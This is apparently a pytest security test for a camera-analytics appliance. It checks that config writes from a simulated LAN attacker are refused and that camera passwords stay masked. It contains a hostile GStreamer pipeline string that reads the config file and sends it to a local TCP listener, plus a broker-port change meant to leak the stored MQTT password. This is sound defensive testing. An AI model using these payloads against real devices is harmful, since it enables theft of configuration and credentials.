"""A LAN attacker against a running ``edge-app run``: config writes that would read files, run
pipelines or send stored secrets somewhere new are refused, and the config file stays as it was."""
import socket
import threading
import time

import pytest

from testkit.waiting import wait_until
from testkit.net import free_port

pytestmark = pytest.mark.slow

MQTT_USER, MQTT_PASSWORD = "edge", "mqtt-pa55word-e2e"
CAMERA_PASSWORD = "ssW0rd@tt"  # an '@' inside: masking must hide all of it
GST_ATTACK = ("gst:souphttpsrc location=http://127.0.0.1:9/x ! filesink location={owned}  "
              "filesrc location={config} ! tcpclientsink host=127.0.0.1 port={port}  videotestsrc ! videoconvert ! appsink")


class Listener:
    """A TCP server that records every byte sent to it: the attacker's "broker"."""

    def __init__(self):
        self.port = free_port()
        self.received = bytearray()
        self.connections = 0
        self._sock = socket.create_server(("127.0.0.1", self.port))
        self._sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except socket.timeout:
                continue
            self.connections += 1
            conn.settimeout(1.0)
            try:
                while chunk := conn.recv(4096):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self):
        self._stop.set()
        self._thread.join(2)
        self._sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def test_config_attacks_are_refused_by_the_running_appliance(mosquitto_factory, appliance_factory, model_path, tmp_path, listener):
    broker = mosquitto_factory(users={MQTT_USER: MQTT_PASSWORD}).start()
    cameras = [{"id": "bars", "source": "test://bars?width=320&height=240&fps=5"},
               {"id": "door", "source": f"rtsp://admin:{CAMERA_PASSWORD}@127.0.0.1:{free_port()}/s"}]
    app = appliance_factory(cameras, model_path, broker, mqtt={"username": MQTT_USER, "password": MQTT_PASSWORD})
    wait_until(lambda: app.camera_state("bars") == "streaming", 60, "the test camera to stream")
    wait_until(lambda: app.camera_state("door") in ("reconnecting", "error"), 60, "the RTSP camera to fail")
    before = app.config_path.read_bytes()

    owned = tmp_path / "owned"
    gst = GST_ATTACK.format(owned=owned, config=app.config_path, port=listener.port)
    response = app.request("PATCH", "/api/v1/config", json={"cameras": [*app.get("/api/v1/config").json()["cameras"],
                                                                        {"id": "evil", "source": gst}]})
    assert response.status_code == 400, response.text
    assert response.json()["details"][0]["loc"] == "cameras.2.source"

    # The broker "moves" to the attacker: the stored password must not follow it.
    response = app.request("PATCH", "/api/v1/config", json={"mqtt": {"port": listener.port}})
    assert response.status_code == 400, response.text
    assert response.json()["details"][0]["loc"] == "mqtt.password"
    assert MQTT_PASSWORD not in response.text

    time.sleep(2)  # room for a reconnect to the attacker, had the change been applied
    assert app.config_path.read_bytes() == before
    assert listener.connections == 0 and MQTT_PASSWORD.encode() not in listener.received
    assert not owned.exists()
    assert app.get("/api/v1/config").json()["mqtt"]["port"] == broker.port
    assert app.camera_state("bars") == "streaming"  # the running appliance was not touched

    # The camera password, '@' included, is masked in the API and in the log.
    door = next(c for c in app.get("/api/v1/cameras").json() if c["id"] == "door")
    assert door["source"].startswith("rtsp://admin:***@127.0.0.1:")
    assert app.terminate() < 10
    log = app.log_path.read_text(errors="replace")
    assert "rtsp://admin:***@127.0.0.1" in log
    assert CAMERA_PASSWORD not in log and "tt@127.0.0.1" not in log
